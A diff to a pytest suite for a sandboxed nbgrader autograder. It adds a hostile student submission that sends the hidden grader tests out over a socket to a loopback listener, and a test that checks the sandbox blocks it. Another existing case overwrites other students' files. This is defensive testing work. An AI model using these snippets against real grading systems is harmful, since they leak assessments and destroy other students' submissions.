@@ -7,11 +7,14 @@ every case must get exactly the points its honest parts earn and say what happen
 
 from __future__ import annotations
 
+import contextlib
 import copy
 import hashlib
 import json
+import socket
 import subprocess
 import sys
+import threading
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -29,6 +32,17 @@ pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile_submissions")]
 LESSON = "01_one_pixel"
 WEIGHTED, FILTER = "weighted_sum_seed_pixel", "filter_pixel_small_image"
 ORPHAN_MARKER = "987654"  # `sleep 987654`: a process a submission starts and detaches
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return probe.getsockname()[1]
+
+
+# A listener on this machine's loopback while the class is graded: a kernel that could reach it could also
+# reach the internet, and send out the hidden tests it runs (sends_the_hidden_tests tries).
+LISTENER_PORT = _free_port()
 
 
 def _solution_answers() -> dict[str, str]:
@@ -234,6 +248,16 @@ CASES = [
     Case("writes_other_students", nb_file(gaming(FIND_COURSE + (
         "for folder in course_folders():\n    for path in glob.glob(os.path.join(folder, 'submitted', '*', '*', '*')):\n"
         "        try:\n            open(path, 'w').write('{}')\n        except OSError:\n            pass\n"))), (0, 0)),
+    Case("sends_the_hidden_tests", nb_file(solved(weighted_sum=ANSWERS["weighted_sum"] + (
+        "\nimport socket\n"
+        "def _send(text):\n    try:\n"
+        f"        with socket.create_connection(('127.0.0.1', {LISTENER_PORT}), timeout=3) as connection:\n"
+        "            connection.sendall(text.encode())\n    except OSError:\n        pass\n"
+        "_send('hello from a kernel')\n"
+        "_honest = weighted_sum\n"
+        "def weighted_sum(patch, kernel):\n"
+        "    _send('\\n'.join(get_ipython().user_ns.get('In', [])))  # the test cell running, hidden tests too\n"
+        "    return _honest(patch, kernel)\n"))), (3, 3)),
 ]
 HONEST = {"alice": (solved(), (3, 3)),
           "partial": (solved(filter_pixel="def filter_pixel(image, kernel, row, col):\n    return 0.0\n"), (3, 0))}
@@ -270,10 +294,50 @@ def hostile_class(tmp_path_factory, artifacts):
         for file_name, content in case.files.items():
             (folder / file_name).write_bytes(content)
     submitted_before = _digest(course.root / "submitted")
-    run = _grade(course.root, "--jobs", "2")
+    with _listening(LISTENER_PORT) as received:
+        run = _grade(course.root, "--jobs", "2")
+    (artifacts / "hostile_received.txt").write_text("\n---\n".join(received))
     (artifacts / "hostile_summary.txt").write_text(run.stdout + "\n" + run.stderr)
     records = {p.stem: json.loads(p.read_text()) for p in (course.root / "grading" / LESSON / "students").glob("*.json")}
-    return course, run, submitted_before, records
+    return course, run, submitted_before, records, received
+
+
+@contextlib.contextmanager
+def _listening(port: int):
+    """Accept connections on 127.0.0.1:``port`` in a thread; yields the list of what each one sent."""
+    received: list[str] = []
+    server = socket.create_server(("127.0.0.1", port), reuse_port=False)
+    server.settimeout(0.5)
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:  # the timeout: look at `stop` again
+                continue
+            with connection:
+                connection.settimeout(5)
+                chunks = []
+                with contextlib.suppress(OSError):
+                    while chunk := connection.recv(65536):
+                        chunks.append(chunk)
+                received.append(b"".join(chunks).decode(errors="replace"))
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield received
+    finally:
+        stop.set()
+        thread.join()
+        server.close()
+
+
+def test_no_kernel_reaches_the_network(hostile_class):
+    """The kernels have no network: the listener on this machine's loopback heard nothing."""
+    received = hostile_class[4]
+    assert received == [], f"a kernel connected and sent: {received[0][:300]!r}"
 
 
 def test_at_least_twenty_cases():
@@ -281,7 +345,7 @@ def test_at_least_twenty_cases():
 
 
 def test_the_command_finishes_and_exits_zero(hostile_class):
-    _, run, _, records = hostile_class
+    _, run, _, records, _ = hostile_class
     assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
     assert set(records) == {case.name for case in CASES} | set(HONEST)
 
@@ -294,7 +358,7 @@ def test_honest_students_are_graded_as_without_the_others(hostile_class):
 
 @pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
 def test_each_case_gets_exactly_its_honest_points_and_says_what_happened(hostile_class, case):
-    course, run, _, records = hostile_class
+    course, run, _, records, _ = hostile_class
     assert _scores(course.root)[case.name] == case.points
     record = records[case.name]
     told = record["outcome"] + " | " + " ; ".join(record["notes"])
@@ -303,7 +367,7 @@ def test_each_case_gets_exactly_its_honest_points_and_says_what_happened(hostile
 
 
 def test_submitted_files_are_never_modified(hostile_class):
-    course, _, before, _ = hostile_class
+    course, _, before, _, _ = hostile_class
     assert _digest(course.root / "submitted") == before
 
 
@@ -313,7 +377,7 @@ def test_no_process_outlives_grading(hostile_class):
 
 
 def test_gradebook_is_consistent_with_the_records_and_csv(hostile_class):
-    course, _, _, records = hostile_class
+    course, _, _, records, _ = hostile_class
     scores = _scores(course.root)
     for name, record in records.items():
         cells = {cell["name"]: cell["points"] for cell in record["cells"]}
@@ -331,11 +395,18 @@ def test_a_rerun_gives_the_same_result(hostile_class):
     assert _scores(course.root) == before
 
 
-def test_the_solutions_case_is_a_real_threat_without_the_sandbox(hostile_class, tmp_path):
-    """Stock nbgrader (no sandbox) on the same file: reading the solutions from disk would earn full points."""
+@pytest.mark.parametrize("student", ["reads_the_solutions", "sends_the_hidden_tests"])
+def test_the_case_is_a_real_threat_without_the_sandbox(hostile_class, tmp_path, student):
+    """Stock nbgrader (no sandbox) on the same file: reading the solutions from disk would earn full points,
+    and the kernel would send the hidden tests it ran to the listener."""
     course = hostile_class[0]
     copy_root = tmp_path / "course"
     subprocess.run(["cp", "-a", str(course.root), str(copy_root)], check=True)
-    subprocess.run([sys.executable, "-m", "nbgrader", "autograde", LESSON, "--student", "reads_the_solutions",
-                    "--force"], cwd=copy_root, env=nbgrader_environment(), capture_output=True, timeout=600)
-    assert _scores(copy_root)["reads_the_solutions"] == (3, 3)
+    with _listening(LISTENER_PORT) as received:
+        subprocess.run([sys.executable, "-m", "nbgrader", "autograde", LESSON, "--student", student, "--force"],
+                       cwd=copy_root, env=nbgrader_environment(), capture_output=True, timeout=600)
+    if student == "reads_the_solutions":
+        assert _scores(copy_root)[student] == (3, 3)
+    else:
+        hidden = "check_weighted_sum_random(weighted_sum, seed=101)"  # lesson 01's hidden test
+        assert "hello from a kernel" in received and any(hidden in text for text in received)
